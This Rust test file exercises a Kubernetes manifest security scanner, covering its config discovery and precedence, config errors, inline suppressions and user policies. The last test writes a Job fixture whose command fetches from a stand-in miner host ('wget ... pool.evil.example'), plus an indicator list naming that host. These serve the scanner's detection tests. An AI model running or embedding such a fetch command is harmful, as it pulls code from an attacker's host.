//! Configuration (discovery, precedence, every loader error), inline suppressions, and user
//! policies with `policy test`, driven through the in-process CLI.

use serde_json::Value;
use std::path::Path;

mod common;
use common::{Ran, cg};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// A temp repository (with `.git`) holding `files`.
fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir(d.path().join(".git")).unwrap();
    for (name, text) in files {
        let p = d.path().join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    d
}

fn s(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

/// (rule, suppressed kind) of every finding of a JSON report.
fn findings(r: &Ran) -> Vec<(String, Option<String>)> {
    let v: Value = serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {}", r.stdout));
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["suppressed"]["kind"].as_str().map(str::to_string),
            )
        })
        .collect()
}

fn has(r: &Ran, rule: &str) -> bool {
    findings(r)
        .iter()
        .any(|(id, sup)| id == rule && sup.is_none())
}

const HOST_PID_POD: &str = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  hostPID: true\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";

// ---- discovery and precedence -------------------------------------------------------------

#[test]
fn config_is_found_walking_up_from_the_scanned_path() {
    let d = repo(&[
        (".cronguard.yaml", "rules:\n  disable: [host-pid]\n"),
        ("deploy/apps/pod.yaml", HOST_PID_POD),
    ]);
    let r = cg(&[
        "scan",
        "--format",
        "json",
        &s(&d.path().join("deploy/apps")),
    ]);
    assert!(!has(&r, "host-pid"), "{}", r.stdout);
    // --no-config ignores it; --config names another one.
    let r = cg(&[
        "scan",
        "--no-config",
        "--format",
        "json",
        &s(&d.path().join("deploy")),
    ]);
    assert!(has(&r, "host-pid"));
    std::fs::write(d.path().join("other.yaml"), "fail-on: info\n").unwrap();
    let r = cg(&[
        "scan",
        "--config",
        &s(&d.path().join("other.yaml")),
        "--format",
        "json",
        &s(&d.path().join("deploy")),
    ]);
    assert!(has(&r, "host-pid"));
}

#[test]
fn discovery_stops_at_the_repository_root() {
    let outer = tempfile::tempdir().unwrap();
    std::fs::write(
        outer.path().join(".cronguard.yaml"),
        "rules: {disable: [host-pid]}\n",
    )
    .unwrap();
    let inner = outer.path().join("repo");
    std::fs::create_dir_all(inner.join(".git")).unwrap();
    std::fs::write(inner.join("pod.yaml"), HOST_PID_POD).unwrap();
    let r = cg(&["scan", "--format", "json", &s(&inner)]);
    assert!(
        has(&r, "host-pid"),
        "a config above the repository must not apply"
    );
}

#[test]
fn command_line_wins_over_file_which_wins_over_defaults() {
    let d = repo(&[("pod.yaml", HOST_PID_POD)]);
    let pod = s(&d.path().join("pod.yaml"));
    // Default: fail-on high, host-pid is high.
    assert_eq!(cg(&["scan", &pod]).code, 1);
    std::fs::write(
        d.path().join(".cronguard.yaml"),
        "fail-on: critical\nrules:\n  disable: [run-as-root]\n  severity: {host-pid: medium}\n",
    )
    .unwrap();
    // File: fail-on critical, and host-pid lowered to medium.
    let r = cg(&["scan", "--format", "json", &pod]);
    assert_eq!(r.code, 0);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let hp = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "host-pid")
        .expect("host-pid still runs");
    assert_eq!(hp["severity"], "medium");
    assert!(!has(&r, "run-as-root"), "disabled by the file");
    assert!(has(&r, "root-filesystem-writable"));
    // Command line: --fail-on and --disable win.
    assert_eq!(cg(&["scan", "--fail-on", "medium", &pod]).code, 1);
    let r = cg(&["scan", "--disable", "host-pid", "--format", "json", &pod]);
    assert!(!has(&r, "host-pid"));
    let r = cg(&["scan", "--enable", "run-as-root", "--format", "json", &pod]);
    assert!(
        has(&r, "run-as-root"),
        "--enable wins over the file's disable"
    );
    let r = cg(&["scan", "--only", "run-as-root", "--format", "json", &pod]);
    assert!(has(&r, "run-as-root"));
    assert!(!has(&r, "host-pid"));
}

#[test]
fn file_globs_apply_unless_the_command_line_gives_its_own() {
    let d = repo(&[
        (".cronguard.yaml", "exclude: [\"skip/**\"]\n"),
        ("skip/pod.yaml", HOST_PID_POD),
        ("keep/pod.yaml", HOST_PID_POD),
    ]);
    let r = cg(&["scan", "--format", "json", &s(d.path())]);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let paths: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(paths.iter().all(|p| p.contains("keep")), "{paths:?}");
    assert!(!paths.is_empty());
    let r = cg(&[
        "scan",
        "--exclude",
        "keep/**",
        "--format",
        "json",
        &s(d.path()),
    ]);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["path"].as_str().unwrap().contains("skip"))
    );
}

#[test]
fn thresholds_reach_the_rules() {
    let job = "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: n}\nspec:\n  ttlSecondsAfterFinished: 600\n  template:\n    spec:\n      restartPolicy: Never\n      containers: [{name: a, image: registry.example.com/a:1.0.0}]\n";
    let d = repo(&[("job.yaml", job)]);
    let r = cg(&["scan", "--format", "json", &s(d.path())]);
    assert!(!has(&r, "job-ttl-too-short"));
    std::fs::write(
        d.path().join(".cronguard.yaml"),
        "thresholds:\n  min-ttl-seconds: 3600\n  allowed-registries: [ghcr.io]\n",
    )
    .unwrap();
    let r = cg(&["scan", "--format", "json", &s(d.path())]);
    assert!(has(&r, "job-ttl-too-short"), "{}", r.stdout);
    assert!(has(&r, "image-registry-not-allowed"));
}

// ---- loader errors ---------------------------------------------------------------------

fn config_error(config: &str) -> Ran {
    let d = repo(&[(".cronguard.yaml", config), ("pod.yaml", HOST_PID_POD)]);
    let r = cg(&["scan", &s(d.path())]);
    assert_eq!(r.code, 2, "{config:?} should be rejected: {}", r.stderr);
    r
}

#[test]
fn unknown_key_is_an_error_with_its_place_and_a_hint() {
    let r = config_error("fail-on: high\nthresholdz: {}\n");
    assert!(
        r.stderr
            .contains("unknown key `thresholdz` in the config file"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(".cronguard.yaml:2:1"), "{}", r.stderr);
    assert!(r.stderr.contains("did you mean `thresholds`?"));
    let r = config_error("thresholds:\n  min-ttl: 5\n");
    assert!(r.stderr.contains("unknown key `min-ttl` in thresholds"));
    assert!(r.stderr.contains(".cronguard.yaml:2:3"), "{}", r.stderr);
}

#[test]
fn wrong_types_are_errors() {
    let r = config_error("fail-on: [high]\n");
    assert!(
        r.stderr
            .contains("`fail-on` must be a string, found a list"),
        "{}",
        r.stderr
    );
    let r = config_error("thresholds:\n  min-ttl-seconds: soon\n");
    assert!(
        r.stderr
            .contains("must be a non-negative integer, found a string")
    );
    let r = config_error("include: \"*.yaml\"\n");
    assert!(r.stderr.contains("`include` must be a list of strings"));
    let r = config_error("inline-suppressions: maybe\n");
    assert!(r.stderr.contains("must be a boolean"));
    let r = config_error("rules: [host-pid]\n");
    assert!(r.stderr.contains("`rules` must be a mapping, found a list"));
    let r = config_error("kubernetes-version: latest\n");
    assert!(r.stderr.contains("must be a version like"));
    let r = config_error("fail-on: high\nfail-on: low\n");
    assert!(r.stderr.contains("key `fail-on` is written twice"));
    let r = config_error("rules: {enable: [host-pid}\n");
    assert!(r.stderr.contains("invalid YAML"), "{}", r.stderr);
    let r = config_error("fail-on: high\n---\nfail-on: low\n");
    assert!(
        r.stderr
            .contains("expected one YAML document, found several")
    );
    let r = config_error("rules: {severity: [host-pid]}\n");
    assert!(
        r.stderr
            .contains("`rules.severity` must be a mapping of rule ids to severities")
    );
    let r = config_error("policy-dirs: [does-not-exist]\n");
    assert!(
        r.stderr.contains("cannot read policy directory"),
        "{}",
        r.stderr
    );
}

#[test]
fn an_empty_config_file_changes_nothing() {
    let d = repo(&[
        (".cronguard.yaml", "# nothing yet\n"),
        ("pod.yaml", HOST_PID_POD),
    ]);
    let r = cg(&["scan", "--format", "json", &s(d.path())]);
    assert_eq!(r.code, 1);
    assert!(has(&r, "host-pid"));
}

#[test]
fn bad_severity_is_an_error() {
    let r = config_error("fail-on: severe\n");
    assert!(r.stderr.contains("unknown severity `severe` in `fail-on`"));
    assert!(
        r.stderr
            .contains("expected critical, high, medium, low or info")
    );
    let r = config_error("rules:\n  severity:\n    host-pid: urgent\n");
    assert!(
        r.stderr
            .contains("unknown severity `urgent` in `rules.severity.host-pid`")
    );
    assert!(r.stderr.contains(".cronguard.yaml:3:15"), "{}", r.stderr);
}

#[test]
fn unknown_rule_id_is_an_error_with_did_you_mean() {
    let r = config_error("rules:\n  disable: [host-pdi]\n");
    assert!(
        r.stderr.contains("unknown rule or category `host-pdi`"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("did you mean `host-pid`?"));
    assert!(r.stderr.contains(".cronguard.yaml:2:13"), "{}", r.stderr);
    let r = config_error("rules:\n  severity: {pod-securty: low}\n");
    assert!(r.stderr.contains("did you mean `pod-security`?"));
}

#[test]
fn unreadable_config_file_is_an_error() {
    let d = repo(&[("pod.yaml", HOST_PID_POD)]);
    let missing = d.path().join("nope.yaml");
    let r = cg(&["scan", "--config", &s(&missing), &s(d.path())]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("cannot read config file"), "{}", r.stderr);
    assert!(r.stderr.contains("nope.yaml"));
}

// ---- the JSON Schema of the config file --------------------------------------------------

fn schema() -> Value {
    serde_json::from_str(
        &std::fs::read_to_string(root().join("docs/cronguard.schema.json")).unwrap(),
    )
    .unwrap()
}

/// A YAML config as the JSON it means (through cronguard's own loader).
fn as_json(yaml: &str) -> Value {
    let l = cronguard::yaml::load(yaml, &cronguard::yaml::Limits::default());
    l.docs[0].to_json(l.docs[0].root.unwrap())
}

/// The yaml blocks of docs/configuration.md that are config files.
fn documented_configs() -> Vec<String> {
    let md = std::fs::read_to_string(root().join("docs/configuration.md")).unwrap();
    md.split("```yaml\n")
        .skip(1)
        .filter_map(|b| b.split("```").next())
        .filter(|b| b.starts_with("# .cronguard.yaml"))
        .map(str::to_string)
        .collect()
}

#[test]
fn example_configs_validate_against_the_schema_and_load() {
    let validator = jsonschema::validator_for(&schema()).unwrap();
    let mut examples = documented_configs();
    assert!(
        !examples.is_empty(),
        "docs/configuration.md lost its reference example"
    );
    examples.push("fail-on: low\n".into());
    examples.push("rules: {severity: {hygiene: info}}\nkubernetes-version: 1.30\n".into());
    for ex in &examples {
        let v = as_json(ex);
        let errors: Vec<String> = validator.iter_errors(&v).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{ex}\n{errors:?}");
        cronguard::config_file::parse("x.yaml", ex).unwrap_or_else(|e| panic!("{e}"));
    }
    // And what the loader rejects, the schema rejects too.
    for bad in [
        "thresholdz: {}\n",
        "fail-on: severe\n",
        "rules: {enable: host-pid}\n",
    ] {
        assert!(!validator.is_valid(&as_json(bad)), "{bad}");
        assert!(
            cronguard::config_file::parse("x.yaml", bad).is_err(),
            "{bad}"
        );
    }
}

fn schema_keys(v: &Value, prefix: &str, out: &mut Vec<String>) {
    if let Some(props) = v["properties"].as_object() {
        for (k, sub) in props {
            let path = if prefix.is_empty() {
                k.clone()
            } else {
                format!("{prefix}.{k}")
            };
            out.push(path.clone());
            schema_keys(sub, &path, out);
        }
    }
}

#[test]
fn schema_lists_exactly_the_keys_the_loader_accepts() {
    let mut keys = Vec::new();
    schema_keys(&schema(), "", &mut keys);
    keys.sort();
    assert_eq!(keys, cronguard::config_file::keys());
}

// ---- inline suppressions -----------------------------------------------------------------

fn scan_text(name: &str, text: &str, extra: &[&str]) -> Ran {
    let d = repo(&[(name, text)]);
    let p = s(&d.path().join(name));
    let mut args = vec!["scan", "--format", "json"];
    args.extend_from_slice(extra);
    args.push(&p);
    let r = cg(&args);
    drop(d);
    r
}

#[test]
fn comment_on_the_line_above_suppresses_with_its_reason() {
    // `namespace: n` would be the boolean false to the API server (YAML 1.1), a schema error.
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: team}\nspec:\n  # cronguard-ignore host-pid: node-exporter reads /proc, SEC-142\n\n  hostPID: true\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let r = scan_text("pod.yaml", text, &[]);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let f = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "host-pid")
        .expect("suppressed findings are still listed");
    assert_eq!(f["suppressed"]["kind"], "comment");
    assert_eq!(
        f["suppressed"]["justification"],
        "node-exporter reads /proc, SEC-142"
    );
    assert!(v["summary"]["suppressed"].as_u64().unwrap() >= 1);
    assert!(!has(&r, "suppression-unused"));
    assert_eq!(r.code, 0, "a suppressed finding does not fail the run");
}

#[test]
fn comment_at_the_end_of_the_line_suppresses_that_line_only() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  hostPID: true  # cronguard-ignore host-pid,host-ipc: debugging pod, removed by PR 12\n  hostIPC: true\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let r = scan_text("pod.yaml", text, &[]);
    let f = findings(&r);
    assert!(f.contains(&("host-pid".into(), Some("comment".into()))));
    assert!(has(&r, "host-ipc"), "the next line is not covered");
    assert!(
        has(&r, "suppression-unused"),
        "host-ipc matched nothing on that line"
    );
}

#[test]
fn annotation_suppresses_inside_its_object_only() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  namespace: n\n  annotations:\n    cronguard.io/ignore: \"host-pid, host-network\"\n    cronguard.io/ignore-reason: \"node agent, reviewed\"\nspec:\n  hostPID: true\n  hostNetwork: true\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n---\n".to_string() + HOST_PID_POD;
    let r = scan_text("pods.yaml", &text, &[]);
    let f = findings(&r);
    assert!(f.contains(&("host-pid".into(), Some("annotation".into()))));
    assert!(f.contains(&("host-network".into(), Some("annotation".into()))));
    assert!(has(&r, "host-pid"), "the second pod has no annotation");
    assert!(!has(&r, "suppression-unused"));
}

#[test]
fn suppressions_without_a_reason_are_findings_and_not_applied() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  namespace: n\n  annotations:\n    cronguard.io/ignore: host-network\nspec:\n  # cronguard-ignore host-pid\n  hostPID: true\n  hostNetwork: true  # cronguard-ignore host-network:   \n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let r = scan_text("pod.yaml", text, &[]);
    let f = findings(&r);
    let reasonless = f
        .iter()
        .filter(|(id, _)| id == "suppression-without-reason")
        .count();
    assert_eq!(reasonless, 3, "{f:?}");
    assert!(has(&r, "host-pid"));
    assert!(has(&r, "host-network"));
    assert!(
        r.stdout
            .contains("annotation cronguard.io/ignore has no cronguard.io/ignore-reason")
    );
}

#[test]
fn unused_and_unknown_suppressions_are_reported() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  # cronguard-ignore host-ipc: not shared here\n  hostPID: true  # cronguard-ignore host-pdi: typo\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let r = scan_text("pod.yaml", text, &[]);
    assert!(
        r.stdout
            .contains("suppression of `host-ipc` matches no finding"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains("suppression names unknown rule `host-pdi` (did you mean `host-pid`?)")
    );
    assert!(has(&r, "host-pid"));
    // A rule that did not run is not "unused".
    let r = scan_text("pod.yaml", text, &["--only", "suppression-unused,host-pid"]);
    assert!(!r.stdout.contains("`host-ipc` matches no finding"));
}

#[test]
fn no_inline_suppressions_ignores_them_all() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  # cronguard-ignore host-pid: reviewed\n  hostPID: true  # cronguard-ignore host-network\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let r = scan_text("pod.yaml", text, &["--no-inline-suppressions"]);
    let f = findings(&r);
    assert!(has(&r, "host-pid"));
    assert!(
        f.iter()
            .all(|(id, sup)| sup.is_none() && !id.starts_with("suppression-")),
        "{f:?}"
    );
    assert_eq!(r.code, 1);
    // The config file can say the same.
    let d = repo(&[
        (".cronguard.yaml", "inline-suppressions: false\n"),
        ("pod.yaml", text),
    ]);
    let r = cg(&["scan", "--format", "json", &s(d.path())]);
    assert!(has(&r, "host-pid"));
}

// ---- user policies -----------------------------------------------------------------------

const USER_POLICY: &str = r#"id: no-debug-image
category: image
severity: high
summary: "a container runs a debug image"
target: container
match:
  properties:
    image:
      not: {pattern: "debug"}
report: value
message: "{container} runs the debug image {value}"
label: "a debug image"
help: "use the release image"
docs: |
  ## What it does
  Flags debug images.
  ## Why is this bad?
  They ship shells and tools.
  ## Example
  image: app:debug
  ## Use instead
  image: app:1.0.0
  ## References
  - none
examples:
  flagged:
  - |
    apiVersion: v1
    kind: Pod
    metadata: {name: p}
    spec:
      containers:
      - name: a
        image: app:debug  # expect: no-debug-image
  clean:
  - |
    apiVersion: v1
    kind: Pod
    metadata: {name: p}
    spec:
      containers:
      - name: a
        image: app:debug-free-but-not-really
"#;

#[test]
fn policy_test_reports_the_failing_example_and_exits_1() {
    let d = repo(&[("policies/no-debug-image.yaml", USER_POLICY)]);
    let r = cg(&["policy", "test", &s(&d.path().join("policies"))]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(r.stdout.contains("FAIL no-debug-image"), "{}", r.stdout);
    assert!(
        r.stdout.contains("ok    flagged example 1 (line 28)"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("FAIL  clean example 1 (line 37): expected no finding, got 1 (line 7: container \"a\" runs the debug image app:debug-free-but-not-really)"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains("1 policies, 2 examples: 1 passed, 1 failed")
    );
}

#[test]
fn policy_test_passes_on_the_builtin_policies() {
    let r = cg(&["policy", "test", &s(&root().join("policies"))]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    assert!(
        r.stdout.contains("ok   host-pid (policies/host-pid.yaml)")
            || r.stdout.contains("ok   host-pid ("),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("FAIL"));
    let r = cg(&["policy", "test"]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    assert!(r.stdout.contains("7 policies"), "{}", r.stdout);
}

#[test]
fn user_policies_run_in_scans_from_the_flag_and_the_config_file() {
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  containers:\n  - name: a\n    image: registry.example.com/app:debug\n";
    let d = repo(&[
        ("my-policies/no-debug-image.yaml", USER_POLICY),
        ("pod.yaml", pod),
    ]);
    let r = cg(&[
        "scan",
        "--policy-dir",
        &s(&d.path().join("my-policies")),
        "--format",
        "json",
        &s(&d.path().join("pod.yaml")),
    ]);
    assert!(has(&r, "no-debug-image"), "{}", r.stdout);
    assert!(
        r.stdout
            .contains("container \\\"a\\\" runs the debug image registry.example.com/app:debug")
    );
    std::fs::write(
        d.path().join(".cronguard.yaml"),
        "policy-dirs: [my-policies]\nrules: {severity: {no-debug-image: low}}\n",
    )
    .unwrap();
    let r = cg(&["scan", "--format", "json", &s(&d.path().join("pod.yaml"))]);
    assert!(has(&r, "no-debug-image"), "{}", r.stdout);
    let r = cg(&[
        "scan",
        "--disable",
        "no-debug-image",
        "--format",
        "json",
        &s(&d.path().join("pod.yaml")),
    ]);
    assert!(!has(&r, "no-debug-image"));
}

#[test]
fn a_broken_user_policy_is_an_error_with_its_place() {
    let bad = USER_POLICY.replace("target: container", "target: containers");
    let d = repo(&[("p/x.yaml", &bad), ("pod.yaml", HOST_PID_POD)]);
    let r = cg(&[
        "scan",
        "--policy-dir",
        &s(&d.path().join("p")),
        &s(d.path()),
    ]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("unknown target `containers`"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("x.yaml:5:9"), "{}", r.stderr);
    let r = cg(&["policy", "test", &s(&d.path().join("p"))]);
    assert_eq!(r.code, 2);
    let dup = USER_POLICY.replace("id: no-debug-image", "id: host-pid");
    std::fs::write(d.path().join("p/x.yaml"), dup).unwrap();
    let r = cg(&[
        "scan",
        "--policy-dir",
        &s(&d.path().join("p")),
        &s(d.path()),
    ]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("`host-pid` is already a rule"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_user_policy_can_read_pod_fields_from_a_container() {
    let policy = USER_POLICY
        .replace("id: no-debug-image", "id: no-root-with-host-pid")
        .replace(
            "match:\n  properties:\n    image:\n      not: {pattern: \"debug\"}\nreport: value\n",
            "match:\n  if: {properties: {_pod: {properties: {hostPID: {const: true}}, required: [hostPID]}}}\n  then:\n    properties:\n      securityContext:\n        properties:\n          runAsUser: {not: {const: 0}}\n",
        )
        .replace("{container} runs the debug image {value}", "{container} runs as root next to the host's processes");
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  hostPID: true\n  securityContext: {runAsUser: 0}\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n  - name: b\n    image: registry.example.com/a:1.0.0\n    securityContext: {runAsUser: 1000}\n";
    let d = repo(&[("p/x.yaml", &policy), ("pod.yaml", pod)]);
    let r = cg(&[
        "scan",
        "--policy-dir",
        &s(&d.path().join("p")),
        "--only",
        "no-root-with-host-pid",
        "--format",
        "json",
        &s(&d.path().join("pod.yaml")),
    ]);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let f = v["findings"].as_array().unwrap();
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(
        f[0]["message"],
        "container \"a\" runs as root next to the host's processes"
    );
    // Inherited from the pod: the finding points at the pod's runAsUser.
    assert_eq!(f[0]["line"], 6);
}

#[test]
fn human_report_shows_suppressed_findings_on_request() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec:\n  hostPID: true  # cronguard-ignore host-pid: reviewed in SEC-142\n  containers:\n  - name: a\n    image: registry.example.com/a:1.0.0\n";
    let d = repo(&[("pod.yaml", text)]);
    let p = s(&d.path().join("pod.yaml"));
    let r = cg(&["scan", "--only", "host-pid", &p]);
    assert!(!r.stdout.contains("host-pid\n"), "{}", r.stdout);
    let r = cg(&["scan", "--only", "host-pid", "--show-suppressed", &p]);
    assert!(
        r.stdout
            .contains("suppressed (comment): reviewed in SEC-142"),
        "{}",
        r.stdout
    );
}

#[test]
fn indicator_additions_reach_the_command_rules() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join(".cronguard.yaml"),
        "thresholds:\n  indicators:\n    pool-hosts: [pool.evil.example]\n",
    )
    .unwrap();
    let job = "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: n}\nspec:\n  template:\n    spec:\n      restartPolicy: Never\n      containers:\n      - name: a\n        image: alpine:3.20\n        command: [sh, -c, \"wget -q https://pool.evil.example/x\"]\n";
    std::fs::write(dir.path().join("job.yaml"), job).unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["scan", "--format", "json", "--only", "command-crypto-miner"];
        args.extend_from_slice(extra);
        let p = dir.path().to_string_lossy().into_owned();
        args.push(&p);
        let r = cg(&args);
        let v: Value =
            serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {}", r.stderr));
        v["findings"].as_array().unwrap().len()
    };
    assert_eq!(run(&[]), 1, "the configured pool host is a miner indicator");
    assert_eq!(run(&["--no-config"]), 0, "it is not a built-in one");
    // A misspelt list name is a spanned error, not silently ignored.
    let bad =
        cronguard::config_file::parse("x.yaml", "thresholds:\n  indicators:\n    pool-host: [a]\n");
    assert!(bad.is_err());
}
